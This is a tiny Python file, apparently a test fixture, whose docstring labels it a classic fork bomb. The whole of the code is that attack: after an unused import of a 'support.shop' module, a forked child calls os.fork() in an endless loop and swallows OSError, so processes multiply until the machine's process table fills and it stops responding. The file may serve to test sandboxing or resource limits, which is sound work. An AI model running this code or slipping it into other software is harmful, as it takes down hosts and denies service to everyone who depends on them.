"""A fork bomb of the classic kind: every process forks for ever."""
import os

from support import shop as app  # noqa: F401

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
